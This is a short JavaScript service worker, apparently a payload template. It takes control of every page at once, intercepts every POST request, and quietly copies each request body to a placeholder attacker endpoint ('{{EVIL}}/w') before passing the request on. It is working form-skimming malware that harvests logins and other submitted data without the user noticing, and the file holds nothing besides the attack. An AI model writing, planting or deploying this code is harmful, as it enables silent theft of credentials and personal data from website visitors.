self.addEventListener("install", function () { self.skipWaiting(); });
self.addEventListener("activate", function (e) { e.waitUntil(self.clients.claim()); });
self.addEventListener("fetch", function (e) {
  if (e.request.method !== "POST") return;
  var copy = e.request.clone();
  e.respondWith(copy.text().then(function (t) {
    fetch("{{EVIL}}/w", { method: "POST", mode: "no-cors", body: encodeURIComponent(t) });
    return fetch(e.request);
  }));
});
